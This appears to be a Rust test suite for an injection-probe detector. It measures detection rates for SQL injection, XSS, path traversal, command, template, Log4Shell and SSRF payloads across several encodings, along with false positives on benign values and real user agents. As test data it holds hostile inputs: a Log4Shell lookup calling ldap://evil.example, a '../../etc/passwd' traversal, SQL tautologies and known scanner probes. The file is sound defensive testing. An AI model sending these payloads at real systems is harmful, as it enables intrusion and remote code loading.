//! The probe detector against its corpus (`tests/probes/`, written for Palisade; see its
//! README): every class's payloads, raw and in the encodings attackers use, and honest values
//! that look like them. Prints the rates it asserts.

#![allow(
    clippy::unwrap_used,
    clippy::panic,
    clippy::indexing_slicing,
    reason = "tests"
)]

use palisade_intel::probes::{Class, Hits, Place, Scanner, scan_one};

/// A corpus file and its `-b` companion (see the corpus README).
fn corpus(name: &str) -> Vec<String> {
    let mut lines = corpus_file(name);
    let b = name.replace(".txt", "-b.txt");
    if std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/probes")
        .join(&b)
        .exists()
    {
        lines.extend(corpus_file(&b));
    }
    lines
}

fn corpus_file(name: &str) -> Vec<String> {
    let path = std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/probes")
        .join(name);
    std::fs::read_to_string(&path)
        .unwrap_or_else(|e| panic!("{}: {e}", path.display()))
        .lines()
        .filter(|l| !l.is_empty() && !l.starts_with('#'))
        .map(str::to_owned)
        .collect()
}

fn percent(s: &str) -> String {
    s.bytes()
        .map(|b| {
            if b.is_ascii_alphanumeric() {
                (b as char).to_string()
            } else {
                format!("%{b:02X}")
            }
        })
        .collect()
}

fn query_form(s: &str) -> String {
    s.bytes()
        .map(|b| match b {
            b' ' => "+".to_owned(),
            b if b.is_ascii_alphanumeric() || b"-_.~".contains(&b) => (b as char).to_string(),
            b => format!("%{b:02X}"),
        })
        .collect()
}

fn entities(s: &str) -> String {
    s.chars()
        .map(|c| match c {
            '<' | '>' | '"' | '\'' | '(' | ')' => format!("&#x{:x};", c as u32),
            c => c.to_string(),
        })
        .collect()
}

/// The encodings a payload is sent in, and whether `+` is a space there.
fn variants(p: &str) -> Vec<(String, bool, &'static str)> {
    vec![
        (p.to_owned(), false, "raw"),
        (query_form(p), true, "query"),
        (percent(p), false, "percent"),
        (percent(&percent(p)), false, "double percent"),
        (p.to_uppercase(), false, "upper case"),
    ]
}

/// Runs a class's corpus: (payloads, flagged raw, variants, variants flagged), printing
/// misses.
fn rate(file: &str, class: Class, with_entities: bool) -> (usize, usize, usize, usize) {
    let payloads = corpus(file);
    let (mut raw, mut total, mut flagged) = (0, 0, 0);
    for p in &payloads {
        let hits = scan_one(p.as_bytes(), false);
        if hits.iter().any(|h| h.class == class) {
            raw += 1;
        } else {
            println!("MISS {} raw: {p}  (found {hits:?})", class.name());
        }
        let mut vs = variants(p);
        if with_entities {
            vs.push((entities(p), false, "html entities"));
        }
        for (v, plus, how) in vs {
            // Upper-casing changes what a path or a Log4j lookup means; those classes are
            // case-sensitive where it matters and are not counted on it.
            if how == "upper case"
                && matches!(
                    class,
                    Class::Traversal | Class::Command | Class::Ssrf | Class::Template
                )
            {
                continue;
            }
            total += 1;
            if scan_one(v.as_bytes(), plus)
                .iter()
                .any(|h| h.class == class)
            {
                flagged += 1;
            } else if how != "raw" {
                println!("MISS {} {how}: {v}", class.name());
            }
        }
    }
    println!(
        "{}: {raw}/{} raw ({:.1}%), {flagged}/{total} with encodings ({:.1}%)",
        class.name(),
        payloads.len(),
        100.0 * raw as f64 / payloads.len() as f64,
        100.0 * flagged as f64 / total as f64
    );
    (payloads.len(), raw, total, flagged)
}

#[test]
fn sql_injection_payloads_are_flagged() {
    let (n, raw, total, flagged) = rate("sqli.txt", Class::Sqli, false);
    assert!(raw * 100 >= n * 99, "{raw}/{n}");
    assert!(flagged * 100 >= total * 99, "{flagged}/{total}");
}

#[test]
fn script_injection_payloads_are_flagged() {
    let (n, raw, total, flagged) = rate("xss.txt", Class::Xss, true);
    assert!(raw * 100 >= n * 97, "{raw}/{n}");
    assert!(flagged * 100 >= total * 97, "{flagged}/{total}");
}

#[test]
fn the_other_classes_are_flagged() {
    for (file, class) in [
        ("traversal.txt", Class::Traversal),
        ("command.txt", Class::Command),
        ("template.txt", Class::Template),
        ("log4shell.txt", Class::Log4shell),
        ("ssrf.txt", Class::Ssrf),
    ] {
        let (n, raw, total, flagged) = rate(file, class, false);
        assert!(raw * 100 >= n * 95, "{}: {raw}/{n}", class.name());
        assert!(
            flagged * 100 >= total * 90,
            "{}: {flagged}/{total}",
            class.name()
        );
    }
}

#[test]
fn honest_look_alikes_are_not_flagged() {
    let benign = corpus("benign.txt");
    let mut fp = 0;
    let mut total = 0;
    for b in &benign {
        for (v, plus, how) in [(b.clone(), false, "raw"), (query_form(b), true, "query")] {
            total += 1;
            let hits = scan_one(v.as_bytes(), plus);
            if !hits.is_empty() {
                fp += 1;
                println!("FALSE POSITIVE {how}: {b}  {hits:?}");
            }
        }
    }
    println!(
        "benign: {fp}/{total} flagged ({:.2}%)",
        100.0 * fp as f64 / total as f64
    );
    // Two honest values are indistinguishable from probes (a `<script>` tag named in prose,
    // "the 'or' operator"); the goal is at most 0.5% of look-alikes flagged.
    assert!(fp * 1000 <= total * 5, "{fp}/{total}");
}

/// Injection probes that isbot's crawler list records as user agents seen in the wild (a
/// PostgreSQL sleep, a PHP expression, Burp Collaborator callbacks).
const PROBES_IN_THE_WILD: [&str; 4] = [
    "FROM PG_SLEEP(15)",
    "<?=print(",
    ".burpcollaborator.net/5.0",
    "(select load_file(",
];

/// Real crawlers' and browsers' user agents (the crawler-user-agents catalog and isbot's lists
/// in the shared testdata) are honest header values: none is a probe.
#[test]
fn real_user_agents_are_not_flagged() {
    let dir = std::env::var("PALISADE_TESTDATA")
        .map(std::path::PathBuf::from)
        .unwrap_or_else(|_| {
            std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared/testdata")
        });
    let path = dir.join("ua/crawler-user-agents.json");
    let Ok(text) = std::fs::read_to_string(&path) else {
        println!("SKIPPED: {} missing", path.display());
        return;
    };
    let list: serde_json::Value = serde_json::from_str(&text).unwrap();
    let scanner = Scanner::default();
    let (mut n, mut fp, mut probes_seen) = (0, 0, 0);
    for entry in list.as_array().unwrap() {
        for ua in entry["instances"].as_array().into_iter().flatten() {
            let ua = ua.as_str().unwrap();
            n += 1;
            let mut hits = Hits::default();
            scanner.scan_header("user-agent", ua.as_bytes(), &mut hits);
            if !hits.is_empty() {
                fp += 1;
                println!("FALSE POSITIVE user-agent: {ua}  {:?}", hits.hits);
            }
        }
    }
    // isbot's lists of real browsers' and crawlers' user agents (YAML lists, one per line).
    for list in ["ua/isbot/browsers.yml", "ua/isbot/crawlers.yml"] {
        let Ok(text) = std::fs::read_to_string(dir.join(list)) else {
            println!("SKIPPED: {list} missing");
            continue;
        };
        for ua in text
            .lines()
            .filter_map(|l| l.trim_start().strip_prefix("- "))
        {
            let ua = ua.trim().trim_matches('\'').trim_matches('"');
            let mut hits = Hits::default();
            scanner.scan_header("user-agent", ua.as_bytes(), &mut hits);
            // isbot's crawler list keeps user agents seen in the wild, scanners' probes among
            // them: those must be flagged, not counted as honest.
            if PROBES_IN_THE_WILD.iter().any(|p| ua.contains(p)) {
                probes_seen += 1;
                assert!(!hits.is_empty(), "a probe sent as a user agent: {ua}");
                continue;
            }
            n += 1;
            if !hits.is_empty() {
                fp += 1;
                println!("FALSE POSITIVE user-agent: {ua}  {:?}", hits.hits);
            }
        }
    }
    println!(
        "user agents: {fp}/{n} honest ones flagged; {probes_seen} probes sent as user agents flagged"
    );
    assert!(n > 100, "{n} user agents read");
    assert!(fp * 1000 <= n * 5, "{fp}/{n}");
}

#[test]
fn hits_say_where_and_what() {
    let s = Scanner::default();
    let mut hits = Hits::default();
    s.scan_path("/api/items/1%27%20OR%20%271%27=%271", &mut hits);
    s.scan_query("q=%3Cscript%3Ealert(1)%3C/script%3E&page=2", &mut hits);
    s.scan_header("x-api-version", b"${jndi:ldap://evil.example/a}", &mut hits);
    s.scan_json(
        br#"{"filter":{"name":"x","path":"../../etc/passwd"},"n":[1,"{{7*7}}"]}"#,
        &mut hits,
    );
    let found: Vec<(&str, &str)> = hits
        .hits
        .iter()
        .map(|h| (h.class.name(), h.location.as_str()))
        .collect();
    assert_eq!(
        found,
        [
            ("sqli", "path"),
            ("xss", "query:q"),
            ("log4shell", "header:x-api-version"),
            ("traversal", "body:/filter/path"),
            ("template", "body:/n/1"),
        ]
    );
    // The fingerprint is a token shape, never the attacker's text.
    assert!(hits.hits[0].fingerprint.as_str().len() <= 16);
    assert!(!hits.hits[0].fingerprint.as_str().contains("OR"));
    // Only the classes asked for.
    let only = Scanner::new(&[Class::Xss]);
    let mut hits = Hits::default();
    only.scan_value(b"' OR 1=1--", Place::Value, false, &mut hits);
    assert!(hits.is_empty());
}

/// Hostile shapes are bounded (a quadratic scan would hang the suite here; the cost itself is
/// in the bench): 10,000-deep nesting, a megabyte of one value, a megabyte of `%25`, of `${`.
#[test]
fn hostile_shapes_are_bounded() {
    let s = Scanner::default();
    let deep = format!("{}\"' OR 1=1--\"{}", "[".repeat(10_000), "]".repeat(10_000));
    let mut hits = Hits::default();
    s.scan_json(deep.as_bytes(), &mut hits);
    // Too deep for the JSON reader: scanned as one value, in its first max_value bytes, where
    // the probe is not.
    assert!(hits.is_empty(), "{:?}", hits.hits);
    let deep_obj = format!("{}1{}", "{\"a\":".repeat(10_000), "}".repeat(10_000));
    s.scan_json(deep_obj.as_bytes(), &mut hits);
    let encoded = "%25".repeat(300_000);
    s.scan_value(encoded.as_bytes(), Place::Value, true, &mut hits);
    let dollars = "${".repeat(300_000);
    s.scan_header("x-anything", dollars.as_bytes(), &mut hits);
    let big = "a' ".repeat(350_000);
    s.scan_value(big.as_bytes(), Place::Value, false, &mut hits);
    assert!(hits.hits.len() <= Class::ALL.len());
    // A probe within the bound in a shallow body is found.
    let mut hits = Hits::default();
    s.scan_json(br#"[[[["' OR 1=1--"]]]]"#, &mut hits);
    assert_eq!(hits.hits[0].location, "body:/0/0/0/0");
}
